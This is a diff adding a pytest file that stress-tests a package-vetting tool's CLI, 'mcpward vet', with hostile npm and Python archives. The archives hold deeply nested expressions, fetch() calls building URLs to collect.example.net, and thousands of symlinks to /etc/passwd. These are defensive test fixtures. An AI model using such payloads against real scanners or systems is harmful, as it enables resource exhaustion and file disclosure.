@@ -1,0 +1,192 @@
+"""Attacks on vet's running time and memory: small hostile packages that made the analysis
+quadratic (tree-sitter ``.parent`` walks, folding), or the report huge. Each runs the real CLI
+(``python -m mcpward vet X --offline --format json``) in a child process under a timeout; a
+wrapper process reports the child's peak RSS (``getrusage(RUSAGE_CHILDREN)``)."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import os
+import subprocess
+import sys
+import tarfile
+import time
+from pathlib import Path
+
+import pytest
+
+#: Generous for a shared, loaded 2-core machine; the unbounded passes took minutes.
+SECONDS = 60.0
+MEGABYTES = 768
+
+_WRAPPER = """
+import json, resource, subprocess, sys, time
+started = time.monotonic()
+done = subprocess.run(sys.argv[2:], capture_output=True, timeout=float(sys.argv[1]))
+print(json.dumps({
+    "seconds": time.monotonic() - started,
+    "rss_mb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024,
+    "code": done.returncode,
+    "stdout": done.stdout.decode("utf-8", "replace"),
+    "stderr": done.stderr.decode("utf-8", "replace")[-4000:],
+}))
+"""
+
+
+def run_vet_cli(archive: Path, cache: Path) -> dict[str, object]:
+    command = [sys.executable, "-m", "mcpward", "vet", str(archive), "--offline", "--format", "json"]
+    command += ["--cache-dir", str(cache)]
+    wrapper = [sys.executable, "-c", _WRAPPER, str(SECONDS), *command]
+    outcome = subprocess.run(wrapper, capture_output=True, timeout=SECONDS + 30, check=False)
+    assert outcome.returncode == 0, outcome.stderr.decode()[-2000:]  # the wrapper's timeout fired
+    result: dict[str, object] = json.loads(outcome.stdout)
+    assert "Traceback" not in str(result["stderr"]), result["stderr"]
+    assert result["seconds"] < SECONDS  # type: ignore[operator]
+    assert result["rss_mb"] < MEGABYTES, result["rss_mb"]  # type: ignore[operator]
+    return result
+
+
+def npm_tgz(path: Path, files: dict[str, bytes], *, extra: list[tarfile.TarInfo] = ()) -> Path:  # type: ignore[assignment]
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        for name, data in {"package.json": b'{"name": "slow-mcp", "version": "1.0.0"}', **files}.items():
+            info = tarfile.TarInfo(f"package/{name}")
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+        for info in extra:
+            archive.addfile(info)
+    path.write_bytes(gzip.compress(buffer.getvalue(), compresslevel=9))
+    return path
+
+
+def report_of(result: dict[str, object]) -> dict[str, object]:
+    assert result["code"] in (0, 1, 4), result["stderr"]
+    report: dict[str, object] = json.loads(str(result["stdout"]))
+    return report
+
+
+CONCAT = b"const x = " + b'"a"+' * 20_000 + b'"a";\nfetch(x);\n'
+TEMPLATES = b"const t = " + b"`${" * 3_000 + b"1" + b"}`" * 3_000 + b";\n"
+DOUBLING = (
+    b'const a0 = "https://collect.example.net/?q=";\n'
+    + b"".join(f"const a{i} = `${{a{i - 1}}}${{a{i - 1}}}`;\n".encode() for i in range(1, 200))
+    + b"".join(
+        f"fetch(a{i % 200}, {{ body: a{i % 200} + a{(i * 7) % 200} }});\n".encode() for i in range(4_000)
+    )
+)
+BIG_CONSTANT = (
+    b'const A = "' + b"x" * 16_000 + b' phan@giftshop.club";\n' + b"send({ bcc: A, to: `${A}` });\n" * 20_000
+)
+PYTHON_CONCAT = b"x = " + b'"a" + ' * 20_000 + b'"a"\nrequests.post(x)\n'
+
+
+@pytest.mark.parametrize(
+    "name,source",
+    [
+        ("index.js", CONCAT),
+        ("index.js", TEMPLATES),
+        ("index.js", DOUBLING),
+        ("index.js", BIG_CONSTANT),
+        ("server.py", PYTHON_CONCAT),
+    ],
+    ids=[
+        "concatenation",
+        "nested templates",
+        "doubling constants",
+        "one big constant",
+        "python concatenation",
+    ],
+)
+def test_hostile_sources_are_analysed_in_bounded_time_and_memory(
+    tmp_path: Path, name: str, source: bytes
+) -> None:
+    archive = npm_tgz(tmp_path / "x.tgz", {name: source})
+    report_of(run_vet_cli(archive, tmp_path / "cache"))
+
+
+def test_a_four_kilobyte_archive_cannot_run_for_minutes(tmp_path: Path) -> None:
+    """A 4 MB chain of additions compresses to a few KB: its tree is millions of nodes deep."""
+    source = b"x = " + b"a+" * 1_950_000 + b"a;\n"
+    archive = npm_tgz(tmp_path / "x.tgz", {"index.js": source})
+    assert archive.stat().st_size < 16 * 1024
+    report = report_of(run_vet_cli(archive, tmp_path / "cache"))
+    assert report["verdict"] != "pass"  # code that was not analysed is not passed quietly
+    assert any(f["rule"] == "analysis-incomplete" for f in report["findings"])  # type: ignore[attr-defined,index]
+
+
+def test_many_files_share_one_analysis_budget(tmp_path: Path) -> None:
+    def chain() -> bytes:  # random pieces, so that the archive is not refused as a bomb
+        return b"x = " + b"+".join(b'"%s"' % os.urandom(4).hex().encode() for _ in range(1_500)) + b";\n"
+
+    archive = npm_tgz(tmp_path / "x.tgz", {f"lib/f{i}.js": chain() for i in range(2_000)})
+    started = time.monotonic()
+    report_of(run_vet_cli(archive, tmp_path / "cache"))
+    assert time.monotonic() - started < SECONDS + 30
+
+
+def _symlinks(count: int) -> list[tarfile.TarInfo]:
+    links = []
+    for index in range(count):
+        info = tarfile.TarInfo(f"package/l{index}")
+        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
+        links.append(info)
+    return links
+
+
+def test_findings_per_rule_are_capped_with_a_summary(tmp_path: Path) -> None:
+    archive = npm_tgz(tmp_path / "x.tgz", {}, extra=_symlinks(5_000))
+    result = run_vet_cli(archive, tmp_path / "cache")
+    report = report_of(result)
+    unsafe = [f for f in report["findings"] if f["rule"] == "archive-unsafe-member"]  # type: ignore[attr-defined,index]
+    assert 1 < len(unsafe) <= 101
+    assert any("4900 more" in f["message"] for f in unsafe)
+    assert len(str(result["stdout"])) < 512 * 1024
+    assert report["verdict"] == "review"
+
+
+def test_hundreds_of_thousands_of_members_are_refused_quickly(tmp_path: Path) -> None:
+    archive = npm_tgz(tmp_path / "x.tgz", {}, extra=_symlinks(120_000))
+    result = run_vet_cli(archive, tmp_path / "cache")
+    assert result["code"] == 2
+    assert "more than" in str(result["stderr"]) and "members" in str(result["stderr"])
+    assert len(str(result["stdout"])) < 1024
+
+
+def test_blobs_do_not_stay_in_memory_while_code_is_parsed(tmp_path: Path) -> None:
+    """Two sides of 180 MB of incompressible data each (under every archive cap) and a file
+    of code: vet keeps only what it reads."""
+    blobs = {f"assets/blob{i}.bin": os.urandom(30 * 1024 * 1024) for i in range(6)}
+    code = {"index.js": b"x = " + b"a+" * 200_000 + b"a;\n"}
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        for name, data in {
+            "package.json": b'{"name": "big-mcp", "version": "1.0.0"}',
+            **blobs,
+            **code,
+        }.items():
+            info = tarfile.TarInfo(f"package/{name}")
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    target = tmp_path / "big.tgz"
+    target.write_bytes(gzip.compress(buffer.getvalue(), compresslevel=1))
+    del blobs, buffer
+    command = [sys.executable, "-m", "mcpward", "vet", str(target), "--baseline", str(target), "--offline"]
+    command += ["--format", "json", "--cache-dir", str(tmp_path / "cache")]
+    wrapper = [sys.executable, "-c", _WRAPPER, str(SECONDS), *command]
+    outcome = subprocess.run(wrapper, capture_output=True, timeout=SECONDS + 30, check=False)
+    assert outcome.returncode == 0, outcome.stderr.decode()[-2000:]
+    result = json.loads(outcome.stdout)
+    assert result["code"] in (0, 1), result["stderr"]
+    assert result["rss_mb"] < 300, result["rss_mb"]  # less than the two sides' blobs alone
+
+
+def test_a_python_file_of_a_million_names_is_not_parsed(tmp_path: Path) -> None:
+    """CPython's parser took 700 MB for this 2 MB file; vet reports it instead."""
+    source = b"x = [" + b"a," * 490_000 + b"]\n"
+    archive = npm_tgz(tmp_path / "x.tgz", {"server.py": source})
+    result = run_vet_cli(archive, tmp_path / "cache")
+    assert result["rss_mb"] < 400, result["rss_mb"]
+    report = report_of(result)
+    assert any(f["rule"] == "analysis-incomplete" for f in report["findings"])  # type: ignore[attr-defined,index]
